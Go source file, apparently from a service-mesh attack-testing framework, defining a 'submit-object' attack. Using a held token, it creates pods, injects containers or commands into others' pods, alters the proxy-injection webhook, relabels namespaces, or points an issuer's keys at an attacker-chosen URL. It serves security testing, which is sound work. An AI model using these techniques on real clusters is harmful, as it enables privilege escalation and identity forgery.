package attacks

import (
	"context"
	"encoding/json"
	"errors"
	"strings"

	"github.com/meshbreach/meshbreach/attacker"
)

// Submitted is a kind of thing that is asked of the platform.
type Submitted string

// What can be submitted.
const (
	SubmitPod       Submitted = "pod"                    // a pod of the own namespace
	SubmitContainer Submitted = "ephemeral-container"    // a container in another's pod
	SubmitCommand   Submitted = "command"                // a command in another's pod
	SubmitWebhook   Submitted = "webhook"                // a change of what looks at pods that are made
	SubmitNamespace Submitted = "namespace"              // labels of a namespace
	SubmitIssuer    Submitted = "request-authentication" // where the keys of an issuer are, for the own workload
)

// SubmitObject has the parameters of submit-object.
type SubmitObject struct {
	// Object is what is submitted; a pod when empty.
	Object Submitted `json:"object,omitempty" jsonschema:"enum=pod,enum=ephemeral-container,enum=command,enum=webhook,enum=namespace,enum=request-authentication"`
	// Token is sent as Authorization: Bearer. Its owner's namespace is where a
	// pod is made.
	Token *attacker.Token `json:"token,omitempty"`
	// Annotations are those of a pod, and Labels those of a pod or a namespace.
	Annotations map[string]string `json:"annotations,omitempty"`
	Labels      map[string]string `json:"labels,omitempty"`
	// Bare says that a pod to which something on the way has added a container
	// is not as it was asked for: it has a proxy after all.
	Bare bool `json:"bare,omitempty"`
	// Proxied says that a pod asks for the mesh's proxy, as the mesh's own pods
	// do; unless it is bare, it is as it was asked for once it has one.
	Proxied bool `json:"proxied,omitempty"`
	// Account names a cast member whose account a pod runs as, or is default;
	// the owner's of the token when empty.
	Account string `json:"account,omitempty"`
	// In names the cast member whose pod gets a container or a command, or whose
	// namespace gets labels.
	In string `json:"in,omitempty"`
	// Request is what the container, or that of the pod, asks of the target and
	// then ends, where somebody runs it. Empty: nobody is to run it.
	Request Request `json:"request,omitempty"`
	// Name is that of a webhook's configuration, with blanks as in
	// read-interface. Its webhook is called injector.meshbreach.test.
	Name string `json:"name,omitempty"`
	// Change is what is set in the webhook.
	Change map[string]any `json:"change,omitempty"`
	// Keys is where a request-authentication says that an issuer's keys are, with
	// blanks as in read-interface. The nonce is added to its query.
	Keys string `json:"keys,omitempty"`
	// By, where it is there, is who leads from there to Keys: an address of
	// somebody's application that redirects to wherever it is told to.
	By string `json:"by,omitempty"`
}

// Lasts says whether the object stays until the attempt is stopped: what comes
// of it comes later.
func (p *SubmitObject) Lasts() bool { return p.Object == SubmitIssuer }

// Holds asks for the credential.
func (p *SubmitObject) Holds() ([]*attacker.Leaf, []*attacker.Token) { return nil, tokens(p.Token) }

// Check refuses parameters that contradict each other.
func (p *SubmitObject) Check() error {
	pod, webhook, issuer := p.pods(), p.Object == SubmitWebhook, p.Object == SubmitIssuer
	return errors.Join(
		oneOf("object", p.Object, SubmitPod, SubmitContainer, SubmitCommand, SubmitWebhook, SubmitNamespace, SubmitIssuer),
		refuse(!pod && len(p.Annotations) > 0, "annotations are for a pod"),
		refuse(!pod && p.Object != SubmitNamespace && len(p.Labels) > 0, "labels are for a pod or a namespace"),
		refuse(!pod && p.Account != "", "account is for a pod"),
		refuse(!pod && (p.Bare || p.Proxied), "bare and proxied are for a pod"),
		refuse(!pod && p.Object != SubmitContainer && p.Request != "", "request is for a pod or a container"),
		refuse((pod || webhook || issuer) == (p.In != ""), "in names whose pod or namespace it is; a new pod, a webhook and a request-authentication are nobody's"),
		refuse(webhook != (p.Name != "") || webhook != (len(p.Change) > 0), "name and change are for a webhook, which takes both"),
		refuse(issuer != (p.Keys != ""), "keys is for a request-authentication, which takes it"),
		refuse(!issuer && p.By != "", "by is for a request-authentication"),
		checkBlanks(p.Name), checkBlanks(p.Keys), checkBlanks(p.By),
		checkTokens(p.Token),
	)
}

func submitObject() attacker.Attack {
	return attacker.New("submit-object", "Submit an object to the platform",
		`Asks the platform's API, with a token of an account, to make something: a pod
with annotations and labels of the attacker's choice and under an account of his
choice, which may ask for the mesh's proxy, a container that joins another's pod, a
command in it, another setting of the webhook that puts proxies into pods, labels of
a namespace, or a RequestAuthentication that says where an issuer's keys are, which
the control plane then fetches. It has won when the API answers with the object as
it was asked for and with an identity that the API gave it; where nodes run what the
API takes, and a pod or a container is to make a call of the target, when that call
arrives; what a control plane fetched shows at whom it asked. A pod that was made is
deleted again once it has called, as is a RequestAuthentication once the attempt is
stopped, and labels are taken away; no scheduler has a pod that is to call nobody. A
container that joined a pod stays for as long as the pod.`,
		func(ctx context.Context, f attacker.Foothold, t attacker.Target, nonce func() string, p SubmitObject, emit func(attacker.Observation)) error {
			n := nonce()
			k, err := p.request(n, f, t)
			if err != nil {
				return err
			}
			answer, o := f.Fetch(ctx, k)
			if o.Reply != nil && p.taken(answer, k.Body) {
				o.Reply.Holds = []string{p.owner() + "/object"}
			}
			if o.Refusal != nil {
				emit(o)
				return nil
			}
			err = p.await(ctx, f, t, k, &o)
			emit(o)
			if p.Lasts() {
				<-ctx.Done()
			}
			// The attempt may have been told to stop, and it leaves nothing.
			return errors.Join(err, p.undo(context.WithoutCancel(ctx), f, k, objectName(n)))
		})
}

// pods says whether a pod is submitted.
func (p SubmitObject) pods() bool { return p.Object == "" || p.Object == SubmitPod }

// makes says whether what is submitted is new, and not a change of what is there.
func (p SubmitObject) makes() bool { return p.pods() || p.Object == SubmitIssuer }

// owner is whose object is made or changed.
func (p SubmitObject) owner() string {
	if p.In != "" {
		return p.In
	}
	return p.Token.Of
}

// objectName is a nonce as the platform takes names.
func objectName(nonce string) string {
	name := strings.Map(func(r rune) rune {
		if r >= 'a' && r <= 'z' || r >= '0' && r <= '9' {
			return r
		}
		return '-'
	}, strings.ToLower("x-"+nonce))
	return strings.Trim(name[:min(len(name), 63)], "-")
}

// request is what is asked of the API. The nonce travels as the user agent,
// which the API writes down.
func (p SubmitObject) request(nonce string, f attacker.Foothold, t attacker.Target) (attacker.Request, error) {
	at, err := behind(t, EndpointPlatform)
	if err != nil {
		return attacker.Request{}, err
	}
	if p.Token == nil {
		return attacker.Request{}, errors.New("without a token: the platform wants to know who asks")
	}
	token, err := bearer(p.Token)
	if err != nil {
		return attacker.Request{}, err
	}
	k := attacker.Request{
		Nonce: nonce, Address: at, Protocol: attacker.ProtocolHTTP2, Method: "POST",
		Headers: map[string][]string{"user-agent": {nonce}, "content-type": {"application/json"}},
		TLS:     &attacker.TLS{ServerName: "kubernetes.default.svc", ALPN: []string{"h2"}},
	}
	if p.Proxied {
		k.Timeout = attacker.Duration(injectLimit)
	}
	authorize(&k, token)
	body, err := p.asked(&k, f, t)
	if err != nil || body == nil {
		return k, err
	}
	if !p.makes() {
		k.Method = "PATCH"
		add(&k, "content-type", "application/strategic-merge-patch+json")
	}
	raw, err := json.Marshal(body)
	k.Body = string(raw)
	return k, err
}

// asked fills in the path and gives the object.
func (p SubmitObject) asked(k *attacker.Request, f attacker.Foothold, t attacker.Target) (body any, err error) {
	if p.Object == SubmitIssuer {
		k.Path, body, err = p.authentication(k.Nonce, f, t)
		return body, err
	}
	if k.Path, err = p.path(t); err != nil {
		return nil, err
	}
	return p.body(k.Nonce, t)
}
